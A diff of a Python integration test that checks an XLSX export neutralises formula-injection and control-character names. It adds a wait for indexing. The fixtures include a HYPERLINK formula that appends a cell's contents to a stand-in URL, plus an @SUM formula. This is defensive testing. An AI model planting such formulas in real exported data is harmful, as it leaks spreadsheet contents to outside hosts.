@@ -12,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from chalicelib import config
-from tests.integration.helpers import VILLAGE_A, new_person, new_programme
+from tests.integration.helpers import VILLAGE_A, new_person, new_programme, wait_indexed
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Klik")'
@@ -87,6 +87,7 @@ def test_stored_formula_and_control_character_names_export_as_plain_text(api, ad
             made[3]["id"]: "@SUM(A1)"}
     for eid, name in evil.items():
         _store_name_directly(eid, name)
+    wait_indexed(api, admin, pid, list(evil))  # the export reads the programme's GSI
     expected = {HYPERLINK: "'" + HYPERLINK, "Siti\u0001Aminah": "SitiAminah", "+6281234567890": "'+6281234567890",
                 "@SUM(A1)": "'@SUM(A1)"}
 
